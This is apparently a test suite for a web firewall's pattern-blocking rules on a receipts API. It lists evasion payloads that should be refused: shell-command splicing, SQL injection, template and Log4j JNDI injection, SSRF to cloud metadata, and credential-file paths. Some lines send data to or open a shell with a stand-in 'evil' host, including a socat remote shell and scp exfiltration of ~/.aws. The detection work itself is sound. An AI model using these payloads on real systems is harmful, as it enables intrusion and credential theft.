import t, { type Test } from 'tap';
import { Value } from '@sinclair/typebox/value';
import {
  patternBlock,
  engineFromConfig,
  type PatternBlockConfig,
} from '../../../policies/pattern-block/index.js';
import { inspectRequest, type Engine, type Verdict } from '../../../policies/pattern-block/engine.js';
import { shellUnquote } from '../../../policies/pattern-block/transforms.js';

/**
 * Detection evasions against the default pattern_block config (paranoia 1, threshold 5):
 * each payload is sent as a query parameter (`GET /api/receipts?search=…`) and as a JSON
 * value (`POST /api/receipts {"merchant": …}`), as a client would place it.
 */
const engine: Engine = engineFromConfig(
  Value.Default(patternBlock.schema, {}) as PatternBlockConfig,
  process.cwd(),
);
const H = { Host: 'receipts.example.com', 'User-Agent': 'test/1.0', Accept: 'application/json' };

function viaQuery(p: string): Verdict {
  return inspectRequest(engine, {
    method: 'GET',
    target: '/api/receipts?search=' + encodeURIComponent(p),
    headers: H,
    body: null,
  });
}
function viaJson(p: string): Verdict {
  return inspectRequest(engine, {
    method: 'POST',
    target: '/api/receipts',
    headers: { ...H, 'Content-Type': 'application/json' },
    body: JSON.stringify({ merchant: p }),
  });
}

/** Both placements are refused as 403 request_blocked of `family`, with `rule` among the matches on the field. */
function refused(t: Test, p: string, family: string, rule: string): void {
  for (const [how, v, target] of [
    ['query', viaQuery(p), 'query:search'],
    ['json', viaJson(p), 'json:merchant'],
  ] as const) {
    t.equal(v.decision, 'deny', `${how} ${JSON.stringify(p)} refused`);
    t.equal(v.deny?.code, 'request_blocked', `${how} ${JSON.stringify(p)} code`);
    t.equal(v.deny?.reason, family, `${how} ${JSON.stringify(p)} reason`);
    t.ok(
      v.matches.some((m) => m.ruleId === rule && m.target === target),
      `${how} ${JSON.stringify(p)} matched by ${rule} on ${target}`,
    );
  }
}

function allowed(t: Test, p: string): void {
  t.equal(viaQuery(p).decision, 'allow', `query ${JSON.stringify(p)} allowed`);
  t.equal(viaJson(p).decision, 'allow', `json ${JSON.stringify(p)} allowed`);
}

t.test('shell_unquote joins a word the shell splices, and leaves prose alone', async (t) => {
  t.equal(shellUnquote(`c'a't /e"t"c/passwd`), 'cat /etc/passwd');
  t.equal(shellUnquote(`x;i''d`), 'x;id');
  t.equal(shellUnquote(`x;"w"ho"am"i`), 'x;whoami');
  t.equal(shellUnquote('x;who\\ami'), 'x;whoami');
  t.equal(shellUnquote('x;w$@hoami|wh``oami'), 'x;whoami|whoami');
  t.equal(shellUnquote('x;who$()ami'), 'x;whoami');
  t.equal(shellUnquote('x&w^h^o^a^m^i'), 'x&whoami');
  t.equal(shellUnquote('x\\necho'), 'x\\necho', 'a literal \\n stays for the line-break rules');
  t.equal(shellUnquote("Lunch; I'd say fine"), "Lunch; I'd say fine", 'a lone apostrophe is no splice');
  t.equal(shellUnquote("Notes; 'id' badge"), "Notes; 'id' badge", 'a quoted word is no splice');
  t.equal(shellUnquote('$5 tip'), '$5 tip');
});

t.test('command names spliced by shell quoting, escapes and empty expansions', async (t) => {
  for (const p of [
    `x;i''d`,
    `x;w'h'o'am'i`,
    `x;"w"ho"am"i`,
    'x;who\\ami',
    'x;l\\s -la',
    'x;w$@hoami',
    'x;who$()ami',
    'x;wh``oami',
    "x|c'a't notes.txt",
    'x&w^h^o^a^m^i',
  ])
    refused(t, p, 'cmd_injection', 'rce-100');
  refused(t, "x\nc'a't ~/notes", 'cmd_injection', 'rce-101');
});

t.test('brace, substring and ANSI-C expansion, globbed paths, $0 -c, certutil', async (t) => {
  for (const p of [
    'x|{ls,-la}',
    'x;${PATH:0:1}bin${PATH:0:1}id',
    "x;$'\\x69\\x64'",
    "a;$(printf '\\x69\\x64')",
    '/???/c?t /???/p??s??',
    'x;$0 -c id',
  ])
    refused(t, p, 'cmd_injection', 'rce-110');
  refused(t, 'x;certutil -urlcache -f http://evil/x.exe x.exe', 'cmd_injection', 'rce-120');
});

t.test('receipt prose with quotes, braces and separators stays allowed', async (t) => {
  for (const p of [
    "Lunch; I'd say fine",
    "Notes; 'id' badge reprint",
    "Dinner; O'Brien's Pub",
    "Rock 'n' roll diner | Joe's",
    '{cat, dog} toys',
    '{lunch,dinner} menu',
    '${port:8080}',
    'certutil help',
    "Tom's $'15' deal",
  ])
    allowed(t, p);
});

t.test('SQL subqueries after concatenation and pattern operators, HAVING tests, OR NOT breaks', async (t) => {
  for (const p of [
    "x'||(select password from users limit 1)||'",
    '1 rlike (select 1)',
    '1 and exists (select 1)',
    '1 group by 1 having 1=1',
    "1' having 1=1--",
  ])
    refused(t, p, 'sqli', 'sqli-140');
  refused(t, "1' or not 0-- -", 'sqli', 'sqli-100');
});

t.test('receipt prose with SQL words stays allowed', async (t) => {
  for (const p of [
    'tastes like (selected) herbs',
    'Having 2 kids = chaos',
    'Combo + (select drink)',
    'having lunch 1=1 meeting',
    "Kids' or not 2 of them",
    "Smiths' and all 3",
  ])
    allowed(t, p);
});

t.test(
  'sensitive files beyond passwd: /etc globs, /proc and /sys info, mounted secrets, container credentials',
  async (t) => {
    for (const p of [
      '/etc/pa??wd',
      '/etc/ssh/sshd_config',
      '/etc/gshadow',
      '/etc/my.cnf',
      '/etc/kubernetes/admin.conf',
      '/proc/version',
      '/proc/net/tcp',
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
      '/sys/class/net/eth0/address',
      '/home/app/.docker/config.json',
      '/var/lib/mysql/mysql/user.MYD',
    ])
      refused(t, p, 'path_traversal', 'lfi-110');
    for (const p of [
      'Proc/version 2 of the form',
      'Sys/class notes',
      'app/run/secret-santa',
      'pens, paper etc/?',
    ])
      allowed(t, p);
  },
);

t.test('commands behind a wrapper, word-like commands with an option or path, $SHELL -c', async (t) => {
  for (const p of [
    'x;env id',
    'x;exec id',
    'x;timeout 5 id',
    'x|xargs id',
    'x;touch /tmp/pwned',
    'x;mkdir /tmp/x',
    'x;kill -9 1',
    'x;source /tmp/x',
    'x;. /tmp/x',
    'x;sudo -l',
    'x;socat exec:sh tcp:evil:1',
    'x;openssl s_client -connect evil:443',
    ';find / -perm -4000',
    '| find / -exec id \\;',
    ';ps -ef',
    ';tar -czf /tmp/x.tgz /etc',
    ';scp -r ~/.aws evil:',
    ';ssh -i key root@evil',
  ])
    refused(t, p, 'cmd_injection', 'rce-100');
  for (const p of ['x;${SHELL} -c id', 'x;{sleep,5}', "x;$(rev<<<'imaohw')"])
    refused(t, p, 'cmd_injection', 'rce-110');
  for (const p of [
    'Paint; touch-up kit',
    'Notes; source: invoice',
    'Fees; kill switch rental',
    'Hotel; time to go',
    'Breakfast; env. fee',
    'Date; dd/mm/yyyy',
    'Lost keys; find -- at the desk',
    'Notes; ps. thanks',
    'Roof; tar & gravel',
  ])
    allowed(t, p);
});

t.test('a string or number break whose boolean test follows a line comment on the next line', async (t) => {
  // MySQL ends `#` and `--` comments at the line break: `WHERE id='1' #↵or '1'='1'` is a
  // tautology; the tokenizer used to read the comment to the end of the value
  for (const p of [
    "1' #\nor '1'='1",
    "1' #\nor 'a'='a",
    "x' -- c\nor 1=1-- ",
    '1 #\n or 1=1',
    "admin' #\r\nand 1=1",
  ])
    refused(t, p, 'sqli', 'sqli-100');
  // multi-line receipt notes with `#`, `--` and apostrophes
  for (const p of [
    "Kids' menu #2\nJane's order was cold",
    "# Notes\nO'Brien's pub, table 4\n- 2 beers\n- 1 burger",
    "# todo\n1. call O'Neil or Smith\n2. file receipt",
    "-- note --\nDinner with Bob's team",
    "#1 priority\nit's 5 o'clock or later",
    'room #12 -- late checkout\nor early breakfast',
  ])
    allowed(t, p);
});

t.test('a closed block comment is whitespace to SQL, not a token between a break and its test', async (t) => {
  for (const p of ["1'/**/||/**/'1'='1", "1'or/*foo*/1=1#", "x'/**/or/**/1=1/**/#"])
    refused(t, p, 'sqli', 'sqli-100');
  // an open one still comments the rest out
  refused(t, "admin'/*", 'sqli', 'sqli-100');
  for (const p of ['Notes /* internal */ see Bob', 'Price /*approx*/ 5 or 6', 'a/*b*/c']) allowed(t, p);
});

t.test('boolean breaks with true, false and null, typed as values the way numbers are', async (t) => {
  // `WHERE id='1' or not false#` and `WHERE id=1 or true#` select every row
  for (const p of [
    "1' or not false#",
    "1' and not null;",
    "1' || not false#",
    '1 or true#',
    '1 or not false#',
    '1) or not false#',
  ])
    refused(t, p, 'sqli', 'sqli-100');
  for (const p of [
    'Status: true or false; see note',
    'returns null or not; check',
    "Bob's and not mine; true",
    'null and void',
    "it's true or false; pick one",
    "Jane's or not true # of guests",
  ])
    allowed(t, p);
});

t.test('server-side template expressions; placeholders, members and filters pass', async (t) => {
  for (const p of [
    '{{7*7}}',
    '{{config.items()}}',
    '${7*7}',
    "${7*'7'}",
    '#{T(java.lang.Math).random()}',
    '#{7*7}',
    '<%= 7*7 %>',
    "<%= system('id') %>",
  ])
    refused(t, p, 'cmd_injection', 'rce-170');
  for (const p of [
    '${amount} per night',
    '{{name}}',
    'Order #{12} pickup',
    'Tip 15% {approx}',
    'Costs {5.00}',
    '{{client.name}}',
    'Hi {{name|upper}}',
    '{{/each}}',
  ])
    allowed(t, p);
});

t.test('Log4j lookups and template expressions in the path, as scanners send them', async (t) => {
  for (const [target, rule] of [
    ['/${jndi:ldap://evil.example/a}', 'rce-160'],
    ['/api/${${lower:j}ndi:rmi://x/a}', 'rce-160'],
    ['/%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D', 'rce-160'],
    ['/api/receipts/%7B%7B7*7%7D%7D', 'rce-170'],
  ] as const) {
    const v = inspectRequest(engine, { method: 'GET', target, headers: H, body: null });
    t.equal(v.decision, 'deny', `${target} refused`);
    t.equal(v.deny?.reason, 'cmd_injection', `${target} reason`);
    t.ok(
      v.matches.some((m) => m.ruleId === rule && m.target === 'path'),
      `${target} matched by ${rule} on the path`,
    );
  }
  for (const target of ['/api/receipts/${amount}', '/api/receipts/%7Bid%7D', '/docs/__init__.py'])
    t.equal(
      inspectRequest(engine, { method: 'GET', target, headers: H, body: null }).decision,
      'allow',
      target,
    );
});

t.test('etc and a system file with separators a fuzzer obfuscated (dotdotpwn)', async (t) => {
  for (const p of [
    '%uff0e%uff0e%c0%qf%uff0e%uff0e%c0%qfetc%c0%qfpasswd',
    '..%c1%pcetc%c1%pcissue',
    '0x2e0x2e0x2fetc0x2fpasswd',
  ])
    refused(t, p, 'path_traversal', 'lfi-140');
  for (const p of [
    'etc. hosts: Jane and Tom',
    'fetch|hosts',
    'catering, decorations, etc. - hosts were Bob and Li',
  ])
    allowed(t, p);
});

t.test('URLs to internal services spelt around rfi-100 (SSRF)', async (t) => {
  for (const p of [
    'http://x@169.254.169.254/latest/meta-data/',
    'http://2852039166/',
    'http://0xa9fea9fe/',
    'http://[::ffff:169.254.169.254]/',
    'http://[::1]:6379/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'gopher://localhost:6379/_flushall',
    'http://127.1/',
    'https:\\\\/localhost:6379/',
    'http:/2852039166',
  ])
    refused(t, p, 'rfi', 'rfi-130');
  // WHATWG URL parsers (Node's fetch) read backslashes and missing slashes after http: as //
  for (const p of ['http:\\\\169.254.169.254/latest', 'http:/169.254.169.254/x', 'http:169.254.169.254'])
    refused(t, p, 'rfi', 'rfi-100');
  for (const p of [
    'https://merchant.example.com/receipt/1',
    'https://metadata-service.example.com/',
    'http://localhost.example.com/',
    'http://user@example.com/',
    'ws:10',
    'https:2025',
  ])
    allowed(t, p);
});

t.test('UNION SELECT split by a line comment and a line break; PostgreSQL COPY … TO PROGRAM', async (t) => {
  for (const p of [
    '1 union -- x\nselect 1',
    '1 UNION ALL -- a\r\nSELECT null',
    '1 union # a\n# b\nall\nselect 1',
    '1 union -- x\ndistinctrow select 1',
  ])
    refused(t, p, 'sqli', 'sqli-111');
  refused(t, '-1 UNION DISTINCTROW SELECT password FROM users', 'sqli', 'sqli-110');
  refused(t, "';copy (select '') to program 'id'--", 'sqli', 'sqli-140');
  for (const p of [
    'Union Square -- nice\nselected items',
    'union dues # march\nselect cut ribeye',
    'copy to program manager',
    'Copy of receipt sent to program office',
  ])
    allowed(t, p);
});

t.test(
  'Log4j JNDI lookups (also nested) and Python template introspection; qs-style prototype pollution',
  async (t) => {
    for (const p of [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}ndi:${lower:l}dap://evil/a}',
      '${${::-j}${::-n}${::-d}${::-i}:ldap://evil/a}',
      "{{''.__class__.__mro__[1].__subclasses__()}}",
    ])
      refused(t, p, 'cmd_injection', 'rce-160');
    const v = inspectRequest(engine, {
      method: 'GET',
      target: '/api/receipts',
      headers: { ...H, 'X-Api-Version': '${jndi:ldap://evil.example/a}' },
      body: null,
    });
    t.equal(v.decision, 'deny', 'a lookup in a header is refused');
    t.same(
      v.matches.map((m) => [m.ruleId, m.target]),
      [['rce-160', 'header:x-api-version']],
    );
    refused(t, 'constructor[prototype][isAdmin]=true', 'nodejs', 'node-100');
    for (const p of [
      '${amount} per night',
      '${port:8080}',
      '__init__ of my_class',
      'constructor [prototype build] fee',
    ])
      allowed(t, p);
  },
);
